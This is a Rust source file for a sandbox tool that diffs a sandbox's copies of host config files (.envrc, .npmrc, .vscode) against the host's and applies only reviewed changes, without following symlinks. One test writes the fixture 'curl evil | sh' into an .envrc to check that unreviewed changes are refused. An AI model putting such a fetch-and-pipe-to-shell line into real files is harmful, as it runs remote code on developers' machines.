//! Reviewing and applying the Domain's copies of host-tool files: which
//! differ from the host's (`differing`), a bounded diff of one
//! (`render`), and copying a reviewed one to the host (`apply`).
//!
//! Both trees are read without following a symlink anywhere (each path is
//! opened beneath its root with `RESOLVE_NO_SYMLINKS`, the entry itself
//! with `O_NOFOLLOW`), and no file is read past `READ_CAP`: a symlink, a
//! device, a FIFO, a socket or a larger file is described in one line
//! instead, and `apply` refuses it.

use std::ffi::OsStr;
use std::io::{self, Read, Write};
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};

use rustix::fs::{AtFlags, Mode, OFlags, ResolveFlags};

use super::matcher::{Cover, Matcher};

/// Most bytes read of one file (either side).
pub const READ_CAP: u64 = 256 << 10;
/// Most entries one listing visits (the store walk and both trees below
/// each host-tool path together).
pub const WALK_MAX: usize = 1_000_000;
/// Most file bytes one listing reads (both sides, all rows): what it
/// holds in memory at once stays near this.
pub const READ_TOTAL: u64 = 64 << 20;

/// What a listing may still visit and read; `spent` once either runs out.
struct Budget {
    entries: usize,
    bytes: u64,
    spent: bool,
}

impl Budget {
    /// Counts one entry; false (and spent) past the bounds.
    fn visit(&mut self) -> bool {
        if self.spent || self.entries == 0 || self.bytes == 0 {
            self.spent = true;
            return false;
        }
        self.entries -= 1;
        true
    }

    fn read(&mut self, c: &Content) {
        if let Content::File(d, _) = c {
            self.bytes = self.bytes.saturating_sub(d.len() as u64);
        }
    }
}

/// One side's entry at a path, read within the bounds.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Content {
    Absent,
    Dir,
    /// A regular file within `READ_CAP`: its bytes and mode.
    File(Vec<u8>, u32),
    /// A symlink and its target (never followed).
    Symlink(Vec<u8>),
    /// A regular file larger than `READ_CAP`: its size.
    TooLarge(u64),
    /// A device, FIFO or socket.
    Special(&'static str),
}

impl Content {
    /// One line describing an entry that is not shown as text, or None.
    pub fn note(&self) -> Option<String> {
        match self {
            Content::Symlink(t) => Some(format!(
                "a symlink to {} (not followed)",
                crate::display::escape(&String::from_utf8_lossy(t))
            )),
            Content::TooLarge(n) => Some(format!(
                "a file of {n} bytes, larger than the {} KiB read limit (not read)",
                READ_CAP >> 10
            )),
            Content::Special(k) => Some(format!("a {k} (not read)")),
            _ => None,
        }
    }

    pub fn kind(&self) -> &'static str {
        match self {
            Content::Absent => "absent",
            Content::Dir => "directory",
            Content::File(..) => "file",
            Content::Symlink(_) => "symlink",
            Content::TooLarge(_) => "oversized file",
            Content::Special(k) => k,
        }
    }

    fn same(&self, o: &Content) -> bool {
        match (self, o) {
            (Content::File(a, m), Content::File(b, n)) => a == b && (m & 0o111) == (n & 0o111),
            // Not read: never taken as equal.
            (Content::TooLarge(_), _) | (_, Content::TooLarge(_)) => false,
            _ => self == o,
        }
    }
}

fn beneath() -> ResolveFlags {
    ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS
}

fn open_root(root: &Path) -> io::Result<OwnedFd> {
    Ok(rustix::fs::open(
        root,
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )?)
}

/// The parent directory of `rel` beneath `root` (no symlink on the way)
/// and the last name; None for the root itself.
fn parent_of<'a>(root: &OwnedFd, rel: &'a Path) -> io::Result<(OwnedFd, &'a OsStr)> {
    let name = rel
        .file_name()
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "not a file name"))?;
    let parent = rel
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .unwrap_or(Path::new("."));
    let d = rustix::fs::openat2(
        root,
        parent,
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
        beneath(),
    )?;
    Ok((d, name))
}

fn read_at(root: &OwnedFd, rel: &Path) -> Content {
    let Ok((d, name)) = parent_of(root, rel) else {
        return Content::Absent;
    };
    let Ok(st) = rustix::fs::statat(&d, name, AtFlags::SYMLINK_NOFOLLOW) else {
        return Content::Absent;
    };
    match rustix::fs::FileType::from_raw_mode(st.st_mode) {
        rustix::fs::FileType::Directory => Content::Dir,
        rustix::fs::FileType::Symlink => match rustix::fs::readlinkat(&d, name, Vec::new()) {
            Ok(t) => Content::Symlink(t.into_bytes()),
            Err(_) => Content::Symlink(Vec::new()),
        },
        rustix::fs::FileType::RegularFile => {
            if st.st_size as u64 > READ_CAP {
                return Content::TooLarge(st.st_size as u64);
            }
            match read_file(&d, name) {
                Ok(Some((data, mode))) => Content::File(data, mode),
                Ok(None) => Content::TooLarge(st.st_size.max(READ_CAP as i64 + 1) as u64),
                Err(_) => Content::Absent,
            }
        }
        rustix::fs::FileType::Fifo => Content::Special("FIFO"),
        rustix::fs::FileType::Socket => Content::Special("socket"),
        rustix::fs::FileType::CharacterDevice | rustix::fs::FileType::BlockDevice => Content::Special("device"),
        _ => Content::Special("special file"),
    }
}

/// A regular file's bytes (None past `READ_CAP`) and mode, opened without
/// following a symlink and without blocking on a FIFO swapped in.
fn read_file(d: &OwnedFd, name: &OsStr) -> io::Result<Option<(Vec<u8>, u32)>> {
    let fd = rustix::fs::openat(
        d,
        name,
        OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC | OFlags::NOCTTY,
        Mode::empty(),
    )?;
    let st = rustix::fs::fstat(&fd)?;
    if rustix::fs::FileType::from_raw_mode(st.st_mode) != rustix::fs::FileType::RegularFile {
        return Err(io::Error::new(io::ErrorKind::InvalidData, "not a regular file"));
    }
    let mut v = Vec::new();
    std::fs::File::from(fd).take(READ_CAP + 1).read_to_end(&mut v)?;
    if v.len() as u64 > READ_CAP {
        return Ok(None);
    }
    Ok(Some((v, st.st_mode & 0o7777)))
}

/// The names in directory `rel` beneath `root` (no symlink followed), at
/// most `max + 1` of them (the caller's budget decides).
fn names_at(root: &OwnedFd, rel: &Path, max: usize) -> Vec<std::ffi::OsString> {
    let dir = if rel.as_os_str().is_empty() {
        Path::new(".")
    } else {
        rel
    };
    let Ok(fd) = rustix::fs::openat2(
        root,
        dir,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
        beneath(),
    ) else {
        return Vec::new();
    };
    let Ok(mut it) = rustix::fs::Dir::read_from(&fd) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    while let Some(Ok(e)) = it.next() {
        let n = e.file_name().to_bytes();
        if n != b"." && n != b".." {
            if out.len() > max {
                break;
            }
            out.push(OsStr::from_bytes(n).to_os_string());
        }
    }
    out
}

/// How the Domain's copy of a host-tool path stands against the host's.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Difference {
    /// Both exist and differ (content, type, executable bit).
    Changed,
    /// The Domain has it, the host does not.
    Added,
    /// The host has it, the Domain's copy was removed.
    Removed,
}

impl Difference {
    pub fn word(self) -> &'static str {
        match self {
            Difference::Changed => "changed",
            Difference::Added => "added",
            Difference::Removed => "removed",
        }
    }
}

/// One differing entry: where, how, and both sides as read.
#[derive(Clone, Debug)]
pub struct Row {
    /// The tool that reads it (None: a profile's `host_config` path).
    pub tool: Option<&'static super::table::Row>,
    pub path: PathBuf,
    pub how: Difference,
    pub host: Content,
    pub domain: Content,
}

/// What `differing` found, and whether it stopped at `WALK_MAX` entries
/// or `READ_TOTAL` bytes (then some may be missing).
pub struct Listing {
    pub rows: Vec<Row>,
    pub truncated: bool,
}

/// The host-tool entries whose Domain copy (in `store`) differs from the
/// host's (`host`): every store entry the matcher covers, and the
/// `seeded` paths (copied from the host once: missing from the store
/// means the sandbox removed them).
pub fn differing(host: &Path, store: &Path, tools: &Matcher, seeded: &[PathBuf]) -> Listing {
    let mut tops: Vec<PathBuf> = Vec::new();
    let mut b = Budget {
        entries: WALK_MAX,
        bytes: READ_TOTAL,
        spent: false,
    };
    let sroot = open_root(store).ok();
    let hroot = open_root(host).ok();
    if let Some(s) = &sroot {
        let mut stack = vec![PathBuf::new()];
        'walk: while let Some(d) = stack.pop() {
            for n in names_at(s, &d, b.entries) {
                if !b.visit() {
                    break 'walk;
                }
                let rel = d.join(&n);
                let comps: Vec<Component> = rel.components().collect();
                if tools.classify(&comps) == Cover::Full {
                    tops.push(rel);
                } else if read_kind_dir(s, &rel) {
                    stack.push(rel);
                }
            }
        }
    }
    for p in seeded {
        if tools.covers(p) && !tops.iter().any(|t| p.starts_with(t)) {
            tops.push(p.clone());
        }
    }
    tops.sort();
    tops.dedup();
    let mut rows = Vec::new();
    if let (Some(h), Some(s)) = (&hroot, &sroot) {
        let was = Seeded::new(seeded);
        for t in &tops {
            compare(h, s, t, &was, &mut rows, &mut b);
        }
    }
    for r in &mut rows {
        r.tool = tools.tool_of(&r.path);
    }
    Listing {
        rows,
        truncated: b.spent,
    }
}

fn read_kind_dir(root: &OwnedFd, rel: &Path) -> bool {
    parent_of(root, rel)
        .and_then(|(d, n)| Ok(rustix::fs::statat(&d, n, AtFlags::SYMLINK_NOFOLLOW)?))
        .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode) == rustix::fs::FileType::Directory)
}

/// Which host entries the Domain once had: a path recorded itself, or
/// (records of a directory only, from before entries were recorded one
/// by one) below a recorded directory none of whose entries is recorded.
struct Seeded<'a> {
    all: std::collections::HashSet<&'a Path>,
}

impl<'a> Seeded<'a> {
    fn new(seeded: &'a [PathBuf]) -> Seeded<'a> {
        Seeded {
            all: seeded.iter().map(PathBuf::as_path).collect(),
        }
    }

    fn had(&self, rel: &Path) -> bool {
        if self.all.contains(rel) {
            return true;
        }
        let mut child = rel;
        while let Some(up) = child.parent().filter(|p| !p.as_os_str().is_empty()) {
            if self.all.contains(up) {
                // Entries below `up` recorded one by one: `rel` is not one.
                return !self.all.iter().any(|p| p.starts_with(up) && *p != up);
            }
            child = up;
        }
        false
    }
}

fn compare(host: &OwnedFd, store: &OwnedFd, rel: &Path, seeded: &Seeded, out: &mut Vec<Row>, b: &mut Budget) {
    if !b.visit() {
        return;
    }
    let h = read_at(host, rel);
    b.read(&h);
    let s = read_at(store, rel);
    b.read(&s);
    let row = |how, host, domain| Row {
        tool: None,
        path: rel.to_path_buf(),
        how,
        host,
        domain,
    };
    match (&h, &s) {
        (Content::Absent, Content::Absent) => {}
        (Content::Dir, Content::Dir) => {
            let mut names = names_at(host, rel, b.entries);
            names.extend(names_at(store, rel, b.entries));
            names.sort();
            names.dedup();
            for n in names {
                compare(host, store, &rel.join(n), seeded, out, b);
            }
        }
        (Content::Absent, Content::Dir) => {
            let names = names_at(store, rel, b.entries);
            if names.is_empty() {
                out.push(row(Difference::Added, h, s));
            }
            for n in names {
                compare(host, store, &rel.join(n), seeded, out, b);
            }
        }
        (Content::Absent, _) => out.push(row(Difference::Added, h, s)),
        (_, Content::Absent) => {
            // A host entry the Domain never had (added on the host since)
            // is not a change of the sandbox's: `apply` would remove it.
            if seeded.had(rel) {
                out.push(row(Difference::Removed, h, s))
            }
        }
        _ => {
            if !h.same(&s) {
                out.push(row(Difference::Changed, h, s));
            }
        }
    }
}

/// A row as text: a header line, then a line diff of the two files, or
/// one line per side that is not read as text. Every line is escaped.
pub fn render(r: &Row) -> String {
    let shown = crate::display::escape_path(&r.path);
    let by = match r.tool {
        Some(t) => format!(
            " ({}, {})",
            t.tool,
            t.when.iter().map(|w| w.words()).collect::<Vec<_>>().join(", ")
        ),
        None => " (the profile's host_config)".to_string(),
    };
    let mut out = format!("{} {shown}{by}\n", r.how.word());
    fn text(c: &Content) -> Option<Option<&[u8]>> {
        match c {
            Content::File(d, _) => Some(Some(d.as_slice())),
            Content::Absent => Some(None),
            _ => None,
        }
    }
    match (text(&r.host), text(&r.domain)) {
        (Some(a), Some(b)) => {
            for l in diff_text(&r.path, a, b).lines() {
                out.push_str(&crate::display::escape(l));
                out.push('\n');
            }
            if let (Content::File(_, m), Content::File(_, n)) = (&r.host, &r.domain) {
                if (m & 0o111) != (n & 0o111) {
                    out.push_str(&format!("  mode {m:04o} -> {n:04o}\n"));
                }
            }
        }
        _ => {
            for (side, c) in [("host", &r.host), ("domain", &r.domain)] {
                let line = c.note().unwrap_or_else(|| format!("a {}", c.kind()));
                out.push_str(&format!("  {side}: {line}\n"));
            }
        }
    }
    out
}

/// A unified-style line diff of the host's file (`---`) against the
/// Domain's copy (`+++`). The caller escapes each line.
pub fn diff_text(rel: &Path, host: Option<&[u8]>, domain: Option<&[u8]>) -> String {
    let lines = |b: Option<&[u8]>| -> Vec<String> {
        b.map(|b| String::from_utf8_lossy(b).lines().map(str::to_string).collect())
            .unwrap_or_default()
    };
    let (a, b) = (lines(host), lines(domain));
    let shown = crate::display::escape_path(rel);
    let mut out = format!(
        "--- host/{shown}{}\n+++ domain/{shown}{}\n",
        if host.is_none() { " (absent)" } else { "" },
        if domain.is_none() { " (absent)" } else { "" }
    );
    // LCS table; bounded so a long file costs at most 4M cells.
    if a.len().saturating_mul(b.len()) > 4_000_000 {
        for l in &a {
            out.push_str(&format!("-{l}\n"));
        }
        for l in &b {
            out.push_str(&format!("+{l}\n"));
        }
        return out;
    }
    let (n, m) = (a.len(), b.len());
    let mut t = vec![vec![0u32; m + 1]; n + 1];
    for i in (0..n).rev() {
        for j in (0..m).rev() {
            t[i][j] = if a[i] == b[j] {
                t[i + 1][j + 1] + 1
            } else {
                t[i + 1][j].max(t[i][j + 1])
            };
        }
    }
    let (mut i, mut j) = (0, 0);
    while i < n || j < m {
        if i < n && j < m && a[i] == b[j] {
            out.push_str(&format!(" {}\n", a[i]));
            i += 1;
            j += 1;
        } else if i < n && (j == m || t[i + 1][j] >= t[i][j + 1]) {
            out.push_str(&format!("-{}\n", a[i]));
            i += 1;
        } else {
            out.push_str(&format!("+{}\n", b[j]));
            j += 1;
        }
    }
    out
}

/// A row as reviewed: a digest of its path, how it differs and both
/// sides as read (kind, mode, bytes). `apply` copies a row only while its
/// fingerprint is one that `changes` or `state diff` showed, so what the
/// sandbox changes after the review (or the developer on the host) is
/// not copied unseen.
pub fn fingerprint(r: &Row) -> String {
    let mut h = openssl::sha::Sha256::new();
    let mut part = |b: &[u8]| {
        h.update(&(b.len() as u64).to_le_bytes());
        h.update(b);
    };
    part(r.path.as_os_str().as_bytes());
    part(r.how.word().as_bytes());
    for c in [&r.host, &r.domain] {
        part(c.kind().as_bytes());
        match c {
            Content::File(d, m) => {
                part(&m.to_le_bytes());
                part(d);
            }
            Content::Symlink(t) => part(t),
            Content::TooLarge(n) => part(&n.to_le_bytes()),
            _ => part(b""),
        }
    }
    crate::domain::hex(&h.finish())
}

/// Adds the fingerprints of `rows` to the reviewed list `file` (kept to
/// the last `REVIEWED_MAX`).
pub fn record_reviewed(file: &Path, rows: &[Row]) -> io::Result<()> {
    if rows.is_empty() {
        return Ok(());
    }
    let mut all = read_reviewed_lines(file);
    all.extend(rows.iter().map(fingerprint));
    let skip = all.len().saturating_sub(REVIEWED_MAX);
    let mut text = String::new();
    for l in &all[skip..] {
        text.push_str(l);
        text.push('\n');
    }
    let tmp = file.with_extension("tmp");
    std::fs::write(&tmp, text)?;
    std::fs::rename(&tmp, file)
}

/// Most fingerprints the reviewed list keeps.
const REVIEWED_MAX: usize = 100_000;

fn read_reviewed_lines(file: &Path) -> Vec<String> {
    std::fs::read_to_string(file)
        .map(|t| t.lines().map(str::to_string).collect())
        .unwrap_or_default()
}

/// The fingerprints `record_reviewed` kept.
pub fn reviewed(file: &Path) -> std::collections::HashSet<String> {
    read_reviewed_lines(file).into_iter().collect()
}

/// `apply` of a row whose fingerprint is in `seen` (shown by a review);
/// any other is refused.
pub fn apply_reviewed(host: &Path, r: &Row, seen: &std::collections::HashSet<String>) -> Result<(), Refused> {
    if !seen.contains(&fingerprint(r)) {
        return Err(Refused::NotReviewed);
    }
    apply(host, r)
}

/// Why `apply` left one entry alone: a variant per step. `Display` is
/// the one line printed for it.
#[derive(Debug)]
pub enum Refused {
    /// Not shown in this state by `changes` or `state diff`.
    NotReviewed,
    /// The Domain's copy is not read as text (its one-line note).
    NotRead(String),
    /// The Domain's copy is a kind of entry that is not copied.
    Kind(&'static str),
    /// The workspace could not be opened.
    Workspace(io::Error),
    /// A host directory on the way is a symlink or not a directory.
    HostPath(String),
    /// The host has another kind of entry where the copy goes.
    HostKind(&'static str),
    /// Making a host directory on the way.
    MakeDir(io::Error),
    /// Writing, removing or making the entry itself.
    Write(io::Error),
    Remove(io::Error),
}

impl std::fmt::Display for Refused {
    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        match self {
            Refused::NotReviewed => f.write_str(
                "it differs from what `lazaret changes` or `lazaret state diff` last showed: review it again",
            ),
            Refused::NotRead(why) => write!(f, "the Domain's copy is {why}"),
            Refused::Kind(k) => write!(f, "the Domain's copy is a {k}"),
            Refused::Workspace(e) => write!(f, "opening the workspace: {e}"),
            Refused::HostPath(n) => write!(f, "the host's {n} is a symlink or not a directory"),
            Refused::HostKind(k) => write!(f, "the host has a {k} there"),
            Refused::MakeDir(e) => write!(f, "making a host directory on the way: {e}"),
            Refused::Write(e) => write!(f, "writing it: {e}"),
            Refused::Remove(e) => write!(f, "removing it: {e}"),
        }
    }
}

/// Copies the Domain's side of row `r` to the host: a file is written to a
/// temporary name in its host directory, synced and renamed over (keeping
/// the host file's mode; a new file gets the Domain's without setuid,
/// setgid or group/other write), a removed entry is removed, an empty
/// added directory is made. Host directories on the way are made as
/// needed, never through a symlink.
pub fn apply(host: &Path, r: &Row) -> Result<(), Refused> {
    if let Some(why) = r.domain.note() {
        return Err(Refused::NotRead(why));
    }
    let root = open_root(host).map_err(Refused::Workspace)?;
    let name = r.path.file_name().ok_or(Refused::Kind("path without a name"))?;
    let parent = make_parents(&root, r.path.parent().unwrap_or(Path::new("")))?;
    let host_st = rustix::fs::statat(&parent, name, AtFlags::SYMLINK_NOFOLLOW).ok();
    let host_type = host_st
        .as_ref()
        .map(|st| rustix::fs::FileType::from_raw_mode(st.st_mode));
    let remove = |e: rustix::io::Errno| Refused::Remove(e.into());
    match &r.domain {
        Content::Absent => match host_type {
            None => Ok(()),
            Some(rustix::fs::FileType::Directory) => {
                rustix::fs::unlinkat(&parent, name, AtFlags::REMOVEDIR).map_err(remove)
            }
            Some(_) => rustix::fs::unlinkat(&parent, name, AtFlags::empty()).map_err(remove),
        },
        Content::Dir => match host_type {
            Some(rustix::fs::FileType::Directory) => Ok(()),
            Some(_) => Err(Refused::HostKind("file")),
            None => {
                rustix::fs::mkdirat(&parent, name, Mode::from_raw_mode(0o755)).map_err(|e| Refused::MakeDir(e.into()))
            }
        },
        Content::File(data, dmode) => {
            let mode = match (&host_st, host_type) {
                (Some(st), Some(rustix::fs::FileType::RegularFile)) => st.st_mode & 0o7777,
                (_, Some(rustix::fs::FileType::Directory)) => return Err(Refused::HostKind("directory")),
                _ => dmode & 0o755,
            };
            write_atomic(&parent, name, data, mode).map_err(Refused::Write)
        }
        other => Err(Refused::Kind(other.kind())),
    }
}

/// Opens (making as needed) host directory `rel` beneath `root`, refusing
/// a symlink anywhere on the way.
fn make_parents(root: &OwnedFd, rel: &Path) -> Result<OwnedFd, Refused> {
    let mk = |e: rustix::io::Errno| Refused::MakeDir(e.into());
    let mut cur = rustix::fs::openat(
        root,
        ".",
        OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    )
    .map_err(mk)?;
    for c in rel.components() {
        let Component::Normal(n) = c else {
            return Err(Refused::HostPath(crate::display::escape_path(rel)));
        };
        let open = |d: &OwnedFd| {
            rustix::fs::openat2(
                d,
                n,
                OFlags::PATH | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::empty(),
                beneath(),
            )
        };
        cur = match open(&cur) {
            Ok(fd) => fd,
            Err(rustix::io::Errno::NOENT) => {
                rustix::fs::mkdirat(&cur, n, Mode::from_raw_mode(0o755)).map_err(mk)?;
                open(&cur).map_err(mk)?
            }
            Err(rustix::io::Errno::LOOP) | Err(rustix::io::Errno::NOTDIR) | Err(rustix::io::Errno::XDEV) => {
                return Err(Refused::HostPath(crate::display::escape(&n.to_string_lossy())));
            }
            Err(e) => return Err(mk(e)),
        };
    }
    Ok(cur)
}

fn write_atomic(dir: &OwnedFd, name: &OsStr, data: &[u8], mode: u32) -> io::Result<()> {
    let mut tmp = b".".to_vec();
    tmp.extend_from_slice(name.as_bytes());
    tmp.extend_from_slice(format!(".lazaret-apply.{}", std::process::id()).as_bytes());
    let tmp = OsStr::from_bytes(&tmp);
    let w = rustix::fs::openat(
        dir.as_fd(),
        tmp,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o600),
    )?;
    let done = (|| -> io::Result<()> {
        rustix::fs::fchmod(&w, Mode::from_raw_mode(mode))?;
        let mut f = std::fs::File::from(w);
        f.write_all(data)?;
        f.sync_all()?;
        rustix::fs::renameat(dir, tmp, dir, name)?;
        Ok(())
    })();
    if done.is_err() {
        let _ = rustix::fs::unlinkat(dir, tmp, AtFlags::empty());
    }
    done?;
    // The rename itself, durable.
    if let Ok(d) = rustix::fs::openat(
        dir,
        ".",
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
        Mode::empty(),
    ) {
        let _ = rustix::fs::fsync(&d);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(name: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("lz-review-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(d.join("ws")).unwrap();
        std::fs::create_dir_all(d.join("st")).unwrap();
        d
    }

    #[test]
    fn bounded_never_following() {
        let d = tmp("bounds");
        let (ws, st) = (d.join("ws"), d.join("st"));
        std::fs::create_dir_all(st.join("sub/.vscode")).unwrap();
        std::os::unix::fs::symlink("/dev/zero", st.join("sub/.vscode/settings.json")).unwrap();
        let big = std::fs::File::create(st.join(".envrc")).unwrap();
        big.set_len(1 << 30).unwrap();
        std::fs::write(st.join(".npmrc"), "x\n").unwrap();
        // A store directory replaced by a symlink is not walked through.
        std::os::unix::fs::symlink("/etc", st.join("etc")).unwrap();
        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &[]);
        let got: Vec<(String, &str)> = l
            .rows
            .iter()
            .map(|r| (r.path.to_string_lossy().into_owned(), r.domain.kind()))
            .collect();
        assert_eq!(
            got,
            vec![
                (".envrc".to_string(), "oversized file"),
                (".npmrc".to_string(), "file"),
                ("sub/.vscode/settings.json".to_string(), "symlink")
            ]
        );
        for r in &l.rows[..1] {
            assert!(
                render(r).contains("larger than the 256 KiB read limit"),
                "{}",
                render(r)
            );
        }
        assert!(render(&l.rows[2]).contains("a symlink to /dev/zero (not followed)"));
        assert!(apply(&ws, &l.rows[0]).unwrap_err().to_string().contains("larger than"));
        assert!(apply(&ws, &l.rows[2]).unwrap_err().to_string().contains("symlink"));
        assert!(!ws.join("sub").exists(), "nothing made for a refused copy");
        apply(&ws, &l.rows[1]).unwrap();
        assert_eq!(std::fs::read(ws.join(".npmrc")).unwrap(), b"x\n");
        let _ = std::fs::remove_dir_all(&d);
    }

    /// Many files under a covered directory, each within `READ_CAP`
    /// (sparse: no disk used), are read only up to `READ_TOTAL` in all:
    /// the listing stops and says so instead of holding them all.
    #[test]
    fn a_listing_holds_at_most_the_total_read_bound() {
        let d = tmp("total");
        let (ws, st) = (d.join("ws"), d.join("st"));
        std::fs::create_dir_all(st.join(".vscode")).unwrap();
        let n = (READ_TOTAL / READ_CAP) as usize + 40;
        for i in 0..n {
            let f = std::fs::File::create(st.join(format!(".vscode/f{i:04}.json"))).unwrap();
            f.set_len(READ_CAP).unwrap();
        }
        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &[]);
        let held: u64 = l
            .rows
            .iter()
            .flat_map(|r| [&r.host, &r.domain])
            .map(|c| match c {
                Content::File(v, _) => v.len() as u64,
                _ => 0,
            })
            .sum();
        assert!(
            held <= READ_TOTAL + 2 * READ_CAP,
            "a listing held {held} bytes of file content"
        );
        assert!(l.truncated, "a listing that stopped early says so");
        assert!(!l.rows.is_empty());
        let _ = std::fs::remove_dir_all(&d);
    }

    /// The sandbox changes its copy after the developer reviewed it (or a
    /// review never happened): apply copies nothing unseen.
    #[test]
    fn apply_copies_only_what_was_reviewed() {
        let d = tmp("reviewed");
        let (ws, st) = (d.join("ws"), d.join("st"));
        let seen_file = d.join("reviewed");
        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
        let m = Matcher::new(&[], &[]);
        let list = || differing(&ws, &st, &m, &[]).rows;
        // Never reviewed: refused.
        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
        assert!(matches!(r, Err(Refused::NotReviewed)), "{r:?}");
        record_reviewed(&seen_file, &list()).unwrap();
        // Swapped after the review.
        std::fs::write(st.join(".envrc"), "curl evil | sh # SANDBOX\n").unwrap();
        let r = apply_reviewed(&ws, &list()[0], &reviewed(&seen_file));
        assert!(r.unwrap_err().to_string().contains("review it again"));
        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"developer\n");
        // The host file changed after the review: refused too.
        std::fs::write(st.join(".envrc"), "export OK=1\n").unwrap();
        std::fs::write(ws.join(".envrc"), "developer 2\n").unwrap();
        assert!(apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).is_err());
        std::fs::write(ws.join(".envrc"), "developer\n").unwrap();
        // As reviewed: applied.
        apply_reviewed(&ws, &list()[0], &reviewed(&seen_file)).unwrap();
        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"export OK=1\n");
        let _ = std::fs::remove_dir_all(&d);
    }

    /// A file the developer adds on the host inside a copied directory is
    /// not listed as removed (applying that would delete it); one that was
    /// copied and then removed inside is.
    #[test]
    fn a_host_file_added_later_is_not_a_removal() {
        let d = tmp("later");
        let (ws, st) = (d.join("ws"), d.join("st"));
        std::fs::create_dir_all(ws.join(".vscode")).unwrap();
        std::fs::create_dir_all(st.join(".vscode")).unwrap();
        std::fs::write(ws.join(".vscode/settings.json"), "{}\n").unwrap();
        std::fs::write(ws.join(".vscode/launch.json"), "{}\n").unwrap();
        let seeded: Vec<PathBuf> = [".vscode", ".vscode/settings.json"].iter().map(PathBuf::from).collect();
        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &seeded);
        let got: Vec<_> = l.rows.iter().map(|r| (r.path.clone(), r.how)).collect();
        assert_eq!(got, vec![(PathBuf::from(".vscode/settings.json"), Difference::Removed)]);
        // Records of the directory alone (older Domains): as before.
        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &seeded[..1]);
        assert_eq!(l.rows.len(), 2);
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn apply_keeps_the_host_mode_and_refuses_host_symlinks() {
        use std::os::unix::fs::PermissionsExt;
        let d = tmp("apply");
        let (ws, st) = (d.join("ws"), d.join("st"));
        std::fs::write(ws.join(".envrc"), "a\n").unwrap();
        std::fs::set_permissions(ws.join(".envrc"), std::fs::Permissions::from_mode(0o600)).unwrap();
        std::fs::write(st.join(".envrc"), "b\n").unwrap();
        std::fs::create_dir_all(st.join("x/.cargo")).unwrap();
        std::fs::write(st.join("x/.cargo/config.toml"), "[build]\n").unwrap();
        std::fs::create_dir_all(d.join("elsewhere")).unwrap();
        std::os::unix::fs::symlink(d.join("elsewhere"), ws.join("x")).unwrap();
        let l = differing(&ws, &st, &Matcher::new(&[], &[]), &[]);
        assert_eq!(l.rows.len(), 2);
        apply(&ws, &l.rows[0]).unwrap();
        let m = std::fs::metadata(ws.join(".envrc")).unwrap();
        assert_eq!(m.permissions().mode() & 0o777, 0o600);
        assert_eq!(std::fs::read(ws.join(".envrc")).unwrap(), b"b\n");
        assert!(apply(&ws, &l.rows[1]).unwrap_err().to_string().contains("symlink"));
        assert!(!d.join("elsewhere/.cargo").exists());
        let t = diff_text(Path::new(".envrc"), Some(b"a\nb\n"), Some(b"a\nc\n"));
        assert!(t.contains("-b\n+c\n") && t.contains(" a\n"), "{t}");
        let _ = std::fs::remove_dir_all(&d);
    }
}
